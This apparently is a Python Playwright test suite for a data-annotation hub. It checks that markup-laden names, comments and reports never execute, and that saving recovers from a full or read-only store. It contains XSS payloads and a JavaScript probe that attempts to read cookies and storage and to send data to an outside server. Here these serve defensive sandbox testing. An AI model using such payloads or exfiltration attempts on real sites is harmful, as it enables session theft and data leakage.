"""A browser in a real hub whose disk fills up and turns read-only, and where every name tries to run as a script."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import ModuleType, SimpleNamespace

import pytest
from hub_fixtures import whole_lines
from playwright.sync_api import Browser, Page, expect
from postgres_server import PostgresServer
from serving import wait_until, with_store

from pipeline.hub.accounts import Role
from pipeline.hub.launch import hub_log
from pipeline.project.folder import open_project
from pipeline.project.settings import write_settings
from pipeline.reports.index import write_site
from pipeline.stages.assign import assign_project
from pipeline.store import open_project_store

pytestmark = [pytest.mark.hub, pytest.mark.browser, pytest.mark.slow, pytest.mark.xdist_group("hub")]

#: If this runs as a script, it leaves a mark in the page.
NASTY = "<img src=x onerror=window.pwned=1>"
EVA = f"eva {NASTY}"
RESEARCHER = "maria"
#: What somebody might manage to bring into a report; each leaves a mark if it runs.
HOSTILE = f"""<h1>Findings</h1>{NASTY}<script>window.pwned = 1</script>
<script src="data:text/javascript,pwned=1"></script>
<script type="module">window.pwned = 1</script><svg onload="window.pwned=1"></svg>
<a href="javascript:window.pwned=1">a link</a><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>"""
#: What a script could try if it ran in a report after all: read as its reader, and tell somebody.
AS_A_SCRIPT = """async ([outside, others]) => {
  const got = [];
  const attempt = async (name, run) => { try { if (await run()) got.push(name); } catch {} };
  for (const url of others)
    for (const how of [{}, {credentials: 'include'}, {mode: 'no-cors', credentials: 'include'}])
      await attempt(url, async () => (await (await fetch(url, how)).text()).length >= 0);
  await attempt('cookie', () => document.cookie !== undefined);
  await attempt('storage', () => localStorage.length >= 0);
  await attempt('told by fetch', () => fetch(outside + '/fetch', {mode: 'no-cors'}));
  const heard = (kind, given) => new Promise((done) => {
    const element = Object.assign(document.createElement(kind), given);
    Object.assign(element, {onload: () => done(true), onerror: () => done(false)});
    document.body.append(element);
  });
  await attempt('told by picture', () => heard('img', {src: outside + '/picture.png'}));
  await attempt('a picture of the hub', () => heard('img', {src: '/hub/logo'}));
  await attempt('script', () => heard('script', {src: outside + '/script.js'}));
  await attempt('style', () => heard('link', {rel: 'stylesheet', href: outside + '/s.css'}));
  await attempt('socket', () => new Promise((done) => {
    const socket = new WebSocket(outside.replace('http', 'ws'));
    Object.assign(socket, {onopen: () => done(true), onerror: () => done(false)});
  }));
  try { navigator.sendBeacon(outside + '/beacon', 'x'); } catch {}
  return got;
}"""
AN_HOUR_FAST = """
const True = Date;
window.Date = class extends True {
  constructor(...given) { if (given.length) super(...given); else super(True.now() + 3600e3); }
  static now() { return True.now() + 3600e3; }
};
"""


@pytest.fixture(scope="module")
def small_disk(hub_folder: Path, disk_of_3_mb: Callable[[Path], AbstractContextManager[Path]]) -> Iterator[Path]:
    with disk_of_3_mb(hub_folder / "small disk") as folder:
        yield folder


@pytest.fixture(scope="module")
def place(
    annotation_page: None, hub_benchmark: ModuleType, hub_folder: Path, small_disk: Path, proxy: str
) -> Iterator[SimpleNamespace]:
    """Return a hub whose store is on a disk of three megabytes, and whose names are all markup."""
    folder = hub_folder / "trouble"
    folder.mkdir(mode=0o711)
    names = [EVA, "ben"]
    project = hub_benchmark.make_project(folder, 12, names, class_name=f"{NASTY} {{}}", file_name=f"{NASTY} {{}}.jpg")
    settings = project.settings.with_changes("store", url=f"sqlite:///{small_disk / 'store.sqlite'}")
    write_settings(settings.with_changes("project", name=NASTY), project.root / "mlf.toml")
    project = open_project(project.root)
    assign_project(project, names, 2)
    write_site(project)
    page = (project.reports_dir / "progress.html").read_text()
    (project.reports_dir / "findings.html").write_text(page.replace("<h1>Progress</h1>", HOSTILE))
    write_site(project)  # so that the other pages link it
    people = {name: [Role.ANNOTATORS] for name in names} | {RESEARCHER: [Role.RESEARCHERS], "tom": [Role.REVIEWERS]}
    with hub_benchmark.running_hub(project, people, folder / "hub", proxy) as hub:
        yield SimpleNamespace(hub=hub, project=project, disk=small_disk)


def log_in(browser: Browser, place: SimpleNamespace, name: str, **context: object) -> Page:
    page = browser.new_context(viewport={"width": 1366, "height": 800}, **context).new_page()
    page.set_default_timeout(120_000)
    page.goto(place.hub.url)
    page.get_by_label("Username").fill(name)
    page.get_by_label("Password").fill(place.hub.passwords[name])
    page.keyboard.press("Enter")
    return page


@pytest.fixture(scope="module")
def eva(browser: Browser, place: SimpleNamespace) -> Page:
    page = log_in(browser, place, EVA)
    page.locator('[data-mlf="annotator"][data-ready="true"]').wait_for()
    return page


def nothing_ran(page: Page) -> bool:
    return all(frame.evaluate("() => window.pwned") is None for frame in page.frames)


def tick(page: Page, number: int) -> None:
    """Click one of the five labels shown, by its place."""
    page.locator("input[type=checkbox][data-class-id]").nth(number).click()


def expect_saved(page: Page, word: str) -> None:
    expect(page.locator('[data-mlf="annotator"]')).to_have_attribute("data-saved", word, timeout=60_000)


@contextmanager
def web_server(heard: list[str]) -> Iterator[str]:
    """Serve anything to anybody, and note what was asked for; yield its address."""

    class Ear(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the library's names

    server = ThreadingHTTPServer(("127.0.0.1", 0), Ear)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    thread.join()
    server.server_close()


def kept_votes(place: SimpleNamespace) -> list[str]:
    with open_project_store(place.project) as store:
        return [event.payload["vote"] for event in store.iter_events() if event.kind == "vote"]


def test_names_and_comments_are_shown_as_they_are_and_never_run(eva: Page, place: SimpleNamespace) -> None:
    expect(eva.locator('[data-mlf="annotator"]')).to_contain_text(f"eva {NASTY}")
    expect(eva.locator('[data-mlf="annotator"]')).to_contain_text(f"{NASTY} ")
    eva.get_by_placeholder("Comment").fill(f"{NASTY}<script>window.pwned = 1</script>")
    eva.get_by_placeholder("Comment").blur()
    expect_saved(eva, "saved")
    eva.reload()
    eva.locator('[data-mlf="annotator"][data-ready="true"]').wait_for()
    expect(eva.get_by_placeholder("Comment")).to_have_value(f"{NASTY}<script>window.pwned = 1</script>")
    assert nothing_ran(eva)
    eva.context.new_page().goto(f"{place.hub.url}hub/home")
    assert all(nothing_ran(page) for page in eva.context.pages)
    eva.context.pages[-1].close()


def test_a_full_disk_shows_in_the_widget_and_what_was_ticked_is_saved_once_there_is_room(
    eva: Page, place: SimpleNamespace
) -> None:
    before = len(kept_votes(place))
    filler = place.disk / "filler"
    with pytest.raises(OSError, match="No space"), filler.open("wb", buffering=0) as file:  # noqa: PT012
        while True:
            file.write(b"x" * 4096)
    n_ticks = 0
    # The database's own files have some space left, so it takes a while until a commit needs a new page.
    while eva.locator('[data-mlf="annotator"]').get_attribute("data-saved") != "offline":
        assert n_ticks < 400
        tick(eva, n_ticks % 5)
        n_ticks += 1
        expect(eva.locator('[data-mlf="annotator"]')).not_to_have_attribute("data-saved", "saving", timeout=60_000)
    expect(eva.locator('[data-mlf="annotator"]')).to_contain_text("kept on this machine")
    tick(eva, 0)
    filler.unlink()
    expect_saved(eva, "saved")
    assert len(kept_votes(place)) == before + n_ticks + 1


@pytest.mark.postgres
def test_a_read_only_database_shows_in_the_widget_and_recovers_without_a_restart(
    annotation_page: None,
    hub_benchmark: ModuleType,
    hub_folder: Path,
    proxy: str,
    postgres: PostgresServer,
    browser: Browser,
) -> None:
    folder = hub_folder / "read only"
    folder.mkdir(mode=0o711)
    url = postgres.new_database()
    project = with_store(hub_benchmark.make_project(folder, 4, ["ann", "ben"]), url)
    assign_project(project, ["ann", "ben"], 2)
    people = {name: [Role.ANNOTATORS] for name in ("ann", "ben")}
    with hub_benchmark.running_hub(project, people, folder / "hub", proxy) as hub:
        place = SimpleNamespace(hub=hub, project=project)
        page = log_in(browser, place, "ann")
        page.locator('[data-mlf="annotator"][data-ready="true"]').wait_for()
        tick(page, 0)
        expect_saved(page, "saved")
        postgres.set_read_only(url, True)
        tick(page, 1)
        expect_saved(page, "offline")
        tick(page, 2)
        assert kept_votes(place) == ["yes"]
        postgres.set_read_only(url, False)
        expect_saved(page, "saved")
        assert kept_votes(place) == ["yes"] * 3
        page.context.close()


def test_two_tabs_of_one_account_an_hour_and_a_day_apart_agree(
    browser: Browser, eva: Page, place: SimpleNamespace
) -> None:
    """The second browser lives on the other side of the date line, and its clock is an hour fast."""
    other = browser.new_context(timezone_id="Pacific/Auckland", storage_state=eva.context.storage_state()).new_page()
    other.add_init_script(AN_HOUR_FAST)
    other.goto(eva.url)
    other.locator('[data-mlf="annotator"][data-ready="true"]').wait_for(timeout=60_000)
    boxes = [page.locator("input[type=checkbox][data-class-id]").nth(4) for page in (eva, other)]
    was = boxes[0].is_checked()
    expect(boxes[1]).to_be_checked(checked=was)
    boxes[0].click()
    expect(boxes[1]).to_be_checked(checked=not was)
    expect_saved(eva, "saved")
    boxes[1].click()
    expect(boxes[0]).to_be_checked(checked=was)
    expect_saved(other, "saved")
    other.context.close()


def test_the_board_is_live_for_a_researcher_and_names_do_not_run(
    browser: Browser, eva: Page, place: SimpleNamespace
) -> None:
    page = log_in(browser, place, RESEARCHER)
    board = page.locator('[data-mlf="board"]')
    row = board.get_by_role("row").filter(has_text=f"eva {NASTY}")
    row.wait_for()
    done = row.get_by_role("cell").nth(1)
    before = int(done.inner_text())
    image = eva.locator('[data-mlf="annotator"]').get_attribute("data-image-id")
    eva.locator('[data-mlf-action="next"]').first.click()
    eva.locator(f'[data-mlf="annotator"][data-ready="true"]:not([data-image-id="{image}"])').wait_for()
    if not eva.locator("input[type=checkbox][data-class-id]").first.is_checked():
        tick(eva, 0)
    expect_saved(eva, "saved")
    expect(done).to_have_text(str(before + 1))
    assert nothing_ran(page)
    page.context.close()


@pytest.fixture(scope="module")
def tom(browser: Browser, place: SimpleNamespace) -> Page:
    """Return the page of a reviewer who has logged in, and sees which reports there are."""
    page = log_in(browser, place, "tom", accept_downloads=True)
    page.get_by_role("link", name="findings").wait_for()
    return page


def test_a_reviewer_reads_reports_in_which_nothing_runs_but_the_sites_own_script(
    tom: Page, place: SimpleNamespace
) -> None:
    tom.get_by_role("link", name="findings").click()
    expect(tom.get_by_role("heading", name="Findings")).to_be_visible()
    expect(tom.get_by_role("button", name="Download CSV").first).to_be_visible()
    assert nothing_ran(tom)


def test_in_the_hub_tables_of_a_report_sort_filter_and_download(tom: Page, place: SimpleNamespace) -> None:
    tom.goto(f"{place.hub.url}services/mlf/reports/progress.html")
    press = "selector => document.querySelector(selector).click()"
    names = tom.locator("tbody tr > :first-child")
    tom.evaluate(press, "thead .mlf-sort")
    expect(names).to_have_text([EVA, "ben"])
    tom.evaluate(press, "thead .mlf-sort")
    expect(names).to_have_text(["ben", EVA])
    tom.evaluate(
        "() => { const box = document.querySelector('input[type=search]');"
        " box.value = 'ben'; box.dispatchEvent(new Event('input')); }"
    )
    expect(tom.locator("tbody tr:visible")).to_have_count(1)
    with tom.expect_download() as started:
        tom.evaluate(press, ".mlf-tools button")
    assert Path(started.value.path()).read_text(encoding="utf-8-sig").splitlines()[1].startswith("ben,")


def test_in_the_hub_the_explorer_filters_and_shows_images(tom: Page, place: SimpleNamespace) -> None:
    tom.get_by_role("link", name="Explorer").click()
    expect(tom.locator("[data-mlf=site] [role=status]")).to_have_text("12 images")
    tile = tom.locator(".mlf-site-thumbnail").first
    sprite = tile.evaluate("tile => getComputedStyle(tile).backgroundImage.slice(5, -2)")
    picture = "async (src) => { const i = Object.assign(new Image(), {src}); await i.decode(); return i.width; }"
    assert tom.evaluate(picture, sprite) == 10 * 128
    # Without the page, nobody learns the path of its files; with it, they end at the explorer's file and thumbnails.
    assert tom.request.get(sprite.replace("sprites/0000.jpg", "index.html")).status == 404
    tom.get_by_label("Name contains").fill("no image is called so")
    expect(tom.locator("[data-mlf=site] [role=status]")).to_have_text("0 images")


def test_a_script_that_ran_in_a_report_after_all_could_read_nothing_and_tell_nobody(
    tom: Page, place: SimpleNamespace
) -> None:
    heard: list[str] = []
    with web_server(heard) as outside:
        others = [f"{place.hub.url}{path}" for path in ("hub/api/user", "hub/home", "services/mlf/reports/index.html")]
        for name in ("progress", "explorer"):
            tom.goto(f"{place.hub.url}services/mlf/reports/{name}.html")
            assert tom.evaluate(AS_A_SCRIPT, [outside, others]) == [], name
        assert heard == []
        tom.goto(outside)  # the same script on a page of no sandbox
        assert {"told by fetch", "cookie"} <= set(tom.evaluate(AS_A_SCRIPT, [outside, [outside]]))
        assert "/picture.png" in heard
    tom.goto(f"{place.hub.url}services/mlf/reports/findings.html")
    tom.evaluate("() => document.querySelector('a[href^=javascript]').click()")
    assert nothing_ran(tom)


def test_nothing_in_the_services_log_is_markup(eva: Page, place: SimpleNamespace) -> None:
    def told() -> list[str]:
        return [line for line in whole_lines(hub_log(place.hub.state)) if line.startswith('{"time"')]

    wait_until(lambda: any("eva" in line for line in told()), 60, lambda: "\n".join(told()))
    lines = told()
    assert not [line for line in lines if "<" in line]
    assert all(isinstance(json.loads(line), dict) for line in lines)
